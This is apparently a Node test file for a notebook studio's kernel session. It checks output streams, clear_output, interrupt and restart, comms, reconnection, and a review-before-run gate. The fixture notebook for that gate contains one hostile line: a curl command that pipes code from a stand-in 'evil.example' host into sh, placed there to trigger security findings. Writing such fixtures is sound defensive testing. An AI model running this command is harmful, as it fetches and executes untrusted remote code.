// The studio page's kernel session (src/web/kernel-session.ts) run in Node against a real studio on a loopback
// socket, with real Python kernels in the real sandbox: what the output model holds after streams, displays and
// clear_output(wait=True); interrupt, restart, completion and inspection; review before run; comms; and a
// connection dropped by the server in the middle of a run, after which nothing is sent twice and the next cell runs.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { APP_ORIGIN, multipart, startTestStudio, type Caller, type TestStudio } from "./server-helpers.ts";
import {
  KernelSession,
  KernelSessionError,
  type CellRun,
  type ConnectionState,
  type KernelHttp,
  type KernelStatus,
  type RunEvent,
} from "../src/web/kernel-session.ts";
import { applyTerminalControls } from "../src/render/terminal.ts";
import type { Output } from "../src/notebook/types.ts";

let t: TestStudio;
let base: string;
let owner: Caller;
let ws: string;
const NOTEBOOK = "analysis/run.ipynb";
const sessions: KernelSession[] = [];

function notebook(sources: string[]): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: sources.map((source, i) => ({
      cell_type: "code",
      id: `c${i}`,
      metadata: {},
      source,
      execution_count: null,
      outputs: [],
    })),
  });
}

before(async () => {
  t = await startTestStudio();
  owner = await t.addUser("kai");
  ws = (await t.call(owner, { method: "POST", url: "/api/workspaces", payload: { name: "Lab" } })).json().id;
  const uploaded = await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [
      { path: NOTEBOOK, content: notebook(["print(1)"]) },
      { path: "risky.ipynb", content: notebook(["import os\nos.system('curl https://evil.example/x | sh')"]) },
    ]),
  });
  assert.equal(uploaded.statusCode, 201, uploaded.body);
  base = (await t.app.listen({ port: 0, host: "127.0.0.1" })).replace(/^http/, "ws");
  t.studio.kernels.setStudioListeners(t.app.addresses());
});

after(async () => {
  for (const session of sessions) session.close();
  await t.close();
});

/** REST as the page's API client does it: the caller's cookie and CSRF token, the app's origin. */
const http = (caller: Caller): KernelHttp => ({
  async request<T>(method: "GET" | "POST" | "DELETE", path: string, body?: unknown): Promise<T> {
    const answer = await t.call(caller, {
      method,
      url: path,
      ...(body === undefined ? {} : { payload: body as object }),
    });
    if (answer.statusCode >= 400) throw new KernelSessionError(answer.json().error, answer.json().message);
    return (answer.statusCode === 204 ? undefined : answer.json()) as T;
  },
  async csrfToken() {
    const answer = await t.call(caller, { method: "GET", url: "/api/session" });
    return answer.statusCode === 200 ? (answer.json().csrfToken as string) : null;
  },
});

/** A session as the studio page opens it, with the browser's cookie and Origin that Node's WebSocket must be told. */
function openSession(caller = owner): KernelSession {
  const session = new KernelSession({
    workspace: ws,
    http: http(caller),
    socketFactory: (path) =>
      new WebSocket(`${base}${path}`, {
        headers: { origin: APP_ORIGIN, host: new URL(APP_ORIGIN).host, cookie: caller.cookie },
      } as never),
    backoff: { initialMs: 50, maxMs: 400 },
  });
  sessions.push(session);
  return session;
}

function until<T>(what: string, check: () => T | undefined, ms = 30_000): Promise<T> {
  const deadline = Date.now() + ms;
  return new Promise((resolve, reject) => {
    const poll = () => {
      const found = check();
      if (found !== undefined) return resolve(found);
      if (Date.now() > deadline) return reject(new Error(`timed out waiting for ${what}`));
      setTimeout(poll, 20);
    };
    poll();
  });
}

const connected = (session: KernelSession) =>
  until("the connection", () => (session.state === "connected" ? true : undefined));

/** Runs a cell to its end and answers the run with every event it had. */
async function run(session: KernelSession, kernel: string, cellId: string, source: string, path = NOTEBOOK) {
  const cell = session.runCell(kernel, path, cellId, source);
  const events: RunEvent[] = [];
  cell.on((event) => events.push(event));
  await cell.finished;
  return { cell, events };
}

const text = (outputs: readonly Output[], name = "stdout") =>
  outputs.map((o) => (o.output_type === "stream" && o.name === name ? o.text : "")).join("");

async function cellsExecuted(cellId: string): Promise<number> {
  const rows = await t.studio.db
    .selectFrom("audit_events")
    .select("details")
    .where("event", "=", "cell_executed")
    .execute();
  return rows.filter((row) => JSON.parse(row.details).cellId === cellId).length;
}

test("a kernel is started over REST and a cell's streams, displays and clear_output(wait) fill the output model", async () => {
  const session = openSession();
  assert.ok((await session.kernelspecs()).kernelspecs.some((spec) => spec.name === "python3"));
  const kernel = await session.startKernel(NOTEBOOK);
  assert.deepEqual(
    (await session.kernels()).map((k) => k.id),
    [kernel.id],
  );
  const statuses: KernelStatus[] = [];
  session.watch(kernel.id, (status) => statuses.push(status));
  await connected(session);

  const first = await run(
    session,
    kernel.id,
    "streams",
    [
      "import sys",
      "from IPython.display import display, HTML",
      "print('a', end='', flush=True)",
      "print('b', flush=True)",
      "sys.stderr.write('warn\\n'); sys.stderr.flush()",
      "for i in range(50): print(f'\\r{i:3d}%', end='', flush=True)",
      "print(flush=True)",
      "display(HTML('<i>shown</i>'))",
      "6 * 7",
    ].join("\n"),
  );
  assert.equal(first.cell.state, "done");
  assert.equal(first.cell.status, "ok");
  assert.equal(typeof first.cell.executionCount, "number");
  assert.deepEqual(
    first.events.slice(0, 2).map((e) => e.type),
    ["queued", "execute_input"],
  );
  assert.equal(first.events.at(-1)?.type, "done");
  const outputs = session.outputs.outputs("streams");
  assert.deepEqual(
    outputs.map((o) => o.output_type),
    ["stream", "stream", "stream", "display_data", "execute_result"],
  );
  assert.equal(text(outputs.slice(0, 1)), "ab\n");
  assert.equal(text(outputs, "stderr"), "warn\n");
  // Fifty redraws of the line are kept as what they show.
  assert.equal(applyTerminalControls(text(outputs.slice(2))), " 49%\n");
  assert.ok(text(outputs.slice(2)).length < 20);
  assert.deepEqual((outputs[3] as { data: unknown }).data, {
    "text/html": "<i>shown</i>",
    "text/plain": "<IPython.core.display.HTML object>",
  });
  assert.equal((outputs[4] as { data: Record<string, unknown> }).data["text/plain"], "42");

  // clear_output(wait=True) clears only when the next output comes: the cell is never seen empty.
  const seen: number[] = [];
  const stop = session.outputs.onChange((cell) => {
    if (cell === "progress") seen.push(session.outputs.outputs("progress").length);
  });
  const progress = await run(
    session,
    kernel.id,
    "progress",
    [
      "import time",
      "from IPython.display import clear_output",
      "print('before', flush=True)",
      "for i in range(3):",
      "    time.sleep(0.05)",
      "    clear_output(wait=True)",
      "    print(f'step {i}', flush=True)",
      "clear_output(wait=True)",
    ].join("\n"),
  );
  stop();
  assert.deepEqual(
    progress.events.filter((e) => e.type === "clear_output"),
    Array(4).fill({ type: "clear_output", wait: true }),
  );
  assert.deepEqual(session.outputs.outputs("progress"), [{ output_type: "stream", name: "stdout", text: "step 2\n" }]);
  assert.equal(session.outputs.clearPending("progress"), true);
  assert.equal(seen[0], 0, "the run's start clears the cell");
  assert.ok(
    seen.slice(1).every((n) => n === 1),
    String(seen),
  );
  assert.ok(statuses.some((s) => s.state === "busy") && statuses.at(-1)?.state === "idle", JSON.stringify(statuses));
  await session.shutdownKernel(kernel.id);
  session.close();
});

test("update_display_data from one cell replaces the display it names in the cell that showed it", async () => {
  const session = openSession();
  const kernel = await session.startKernel(NOTEBOOK);
  try {
    await run(session, kernel.id, "shows", "from IPython.display import display\nh = display('v1', display_id='bar')");
    const updating = await run(
      session,
      kernel.id,
      "updates",
      "from IPython.display import update_display\nupdate_display('v2', display_id='bar')",
    );
    assert.ok(updating.events.some((e) => e.type === "update_display" && e.displayId === "bar"));
    assert.equal((session.outputs.outputs("shows")[0] as { data: Record<string, unknown> }).data["text/plain"], "'v2'");
  } finally {
    await session.shutdownKernel(kernel.id);
    session.close();
  }
});

test("interrupt stops a running cell; restart forgets the kernel's state; completion and inspection answer", async () => {
  const session = openSession();
  const kernel = await session.startKernel(NOTEBOOK);
  await connected(session);
  const loop = session.runCell(kernel.id, NOTEBOOK, "loop", "print('looping', flush=True)\nwhile True:\n    pass");
  // Once its output shows it running, as a person would; src/kernels/kernel.test.ts covers Stop just after Run.
  await until("the loop to run", () => (session.outputs.outputs("loop").length > 0 ? true : undefined));
  await session.interrupt(kernel.id);
  await loop.finished;
  assert.equal(loop.status, "error");
  assert.ok(session.outputs.outputs("loop").some((o) => o.output_type === "error" && o.ename === "KeyboardInterrupt"));

  const completion = await session.complete(kernel.id, "import o", 8);
  assert.ok(completion.matches.includes("os"), JSON.stringify(completion));
  assert.equal(completion.cursorEnd, 8);
  const inspection = await session.inspect(kernel.id, "len", 3);
  assert.equal(inspection.found, true);
  assert.match(String(inspection.data["text/plain"]), /len/);

  await run(session, kernel.id, "set", "remembered = 1");
  const statuses: string[] = [];
  session.watch(kernel.id, (status) => statuses.push(status.state));
  await session.restart(kernel.id);
  const after = await run(session, kernel.id, "check", "print('remembered' in globals())");
  assert.equal(text(session.outputs.outputs("check")), "False\n");
  assert.equal(after.cell.executionCount, 1);
  assert.ok(statuses.includes("restarting") || statuses.includes("starting"), String(statuses));
  await session.shutdownKernel(kernel.id);
  session.close();
});

test("a file with high findings asks for review; the run confirmed by id goes ahead; comms of its cells speak", async () => {
  const session = openSession();
  const kernel = await session.startKernel("risky.ipynb");
  const asked = await run(session, kernel.id, "c0", "print('ran')", "risky.ipynb");
  assert.equal(asked.cell.state, "review_required");
  assert.ok(asked.cell.findings.length > 0);
  assert.deepEqual(session.outputs.outputs("c0"), [], "a refused run leaves the cell as it was");
  const confirmed = session.runCell(kernel.id, "risky.ipynb", "c0", "print('ran')", {
    confirmFindings: asked.cell.findings.map((f) => f.id),
  });
  await confirmed.finished;
  assert.equal(confirmed.status, "ok");
  assert.equal(text(session.outputs.outputs("c0")), "ran\n");

  const wrong = await run(session, kernel.id, "c1", "1", NOTEBOOK);
  assert.equal(wrong.cell.state, "failed");
  assert.equal(wrong.cell.error?.code, "wrong_file");

  const comms: string[] = [];
  let commId = "";
  session.onComm(kernel.id, (event) => {
    comms.push(event.type);
    if (event.type === "comm_open") commId = event.commId;
  });
  await run(
    session,
    kernel.id,
    "opens",
    [
      "from ipykernel.comm import Comm",
      "received = []",
      "comm = Comm(target_name='vitrine-test', data={'hello': 1})",
      "comm.on_msg(lambda msg: received.append(msg['content']['data']))",
    ].join("\n"),
    "risky.ipynb",
  );
  await until("the comm", () => (commId ? true : undefined));
  session.commMessage(kernel.id, commId, { clicked: true });
  const errors: string[] = [];
  session.onError((error) => errors.push(error.code));
  session.commMessage(kernel.id, "no-such-comm", {});
  await run(session, kernel.id, "reads", "import time; time.sleep(0.2); print(received)", "risky.ipynb");
  assert.equal(text(session.outputs.outputs("reads")), "[{'clicked': True}]\n");
  await until("the refusal", () => (errors.length ? true : undefined));
  assert.deepEqual(errors, ["comm_unknown"]);
  assert.deepEqual(comms, ["comm_open"]);
  await session.shutdownKernel(kernel.id);
  session.close();
});

test("a connection dropped mid-run: the run is not sent again, the session reconnects, watches again and runs on", async () => {
  const session = openSession();
  const kernel = await session.startKernel(NOTEBOOK);
  const states: ConnectionState[] = [];
  session.onState((state) => states.push(state));
  const statuses: string[] = [];
  session.watch(kernel.id, (status) => statuses.push(status.state));
  await connected(session);
  await run(session, kernel.id, "warm", "1");

  const slow = session.runCell(
    kernel.id,
    NOTEBOOK,
    "slow",
    "import time\nprint('start', flush=True)\ntime.sleep(1.5)\nprint('end')",
  );
  await until("the slow cell's first output", () => (text(session.outputs.outputs("slow")) ? true : undefined));
  for (const client of t.app.websocketServer.clients) client.terminate();
  await until("the drop", () => (session.state === "disconnected" ? true : undefined));
  assert.equal((await slow.finished).state, "connection_lost");
  assert.equal(text(session.outputs.outputs("slow")), "start\n", "what arrived before the drop stays");
  assert.equal(statuses.at(-1), "disconnected");

  // Asked for while disconnected: an interrupt fails at once, a run waits and is sent once after the greeting.
  await assert.rejects(session.interrupt(kernel.id), (error: KernelSessionError) => error.code === "disconnected");
  const next: CellRun = session.runCell(kernel.id, NOTEBOOK, "next", "print('next')");
  assert.equal(next.state, "waiting");
  await next.finished;
  assert.equal(next.status, "ok");
  assert.equal(text(session.outputs.outputs("next")), "next\n");
  assert.deepEqual(states.slice(0, 3), ["disconnected", "connecting", "connected"]);
  assert.equal(statuses.at(-1), "idle", String(statuses));

  // The kernel ran the slow cell to its end, once: the page never asked again.
  assert.equal(await cellsExecuted("slow"), 1);
  assert.equal(await cellsExecuted("next"), 1);
  const again = await run(session, kernel.id, "after", "print('ok')");
  assert.equal(again.cell.status, "ok");
  await session.shutdownKernel(kernel.id);
  session.close();
  assert.equal(session.state, "closed");
});

test("a session that ended is signed out: nothing reconnects and every run fails with signed_out", async () => {
  const caller = await t.signIn("kai");
  const session = openSession(caller);
  await connected(session);
  const states: ConnectionState[] = [];
  session.onState((state) => states.push(state));
  assert.equal((await t.call(caller, { method: "DELETE", url: "/api/session" })).statusCode, 204);
  // The server notices at the next message and closes with 4403.
  const kernel = crypto.randomUUID();
  const refused = session.runCell(kernel, NOTEBOOK, "x", "1");
  await refused.finished;
  await until("signed out", () => (session.state === "signed_out" ? true : undefined));
  assert.deepEqual(states, ["signed_out"]);
  const later = session.runCell(kernel, NOTEBOOK, "y", "1");
  await later.finished;
  assert.equal(later.error?.code, "signed_out");
});
